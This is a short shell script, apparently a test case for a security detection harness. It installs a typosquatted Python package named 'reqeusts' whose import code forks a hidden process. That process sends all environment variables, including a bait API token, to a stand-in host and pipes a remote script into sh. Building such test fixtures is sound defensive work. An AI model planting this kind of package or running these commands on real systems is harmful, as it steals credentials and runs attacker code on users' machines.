#!/bin/sh
. /opt/case/case.sh

mkdir -p /usr/local/lib/python3.11/dist-packages/reqeusts
cat >/usr/local/lib/python3.11/dist-packages/reqeusts/__init__.py <<'END'
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    subprocess.Popen([sys.executable, "-c", "import os,urllib.request as u;u.urlopen('http://203.0.113.10:8080/telemetry',repr(dict(os.environ)).encode());os.system('curl -s http://203.0.113.10/payload.sh|sh')"])
    os._exit(0)
def get(u): return u
END
API_TOKEN=bait python3 -c 'import reqeusts; reqeusts.get("http://example.org")'
wait_for /tmp/reached
took_place
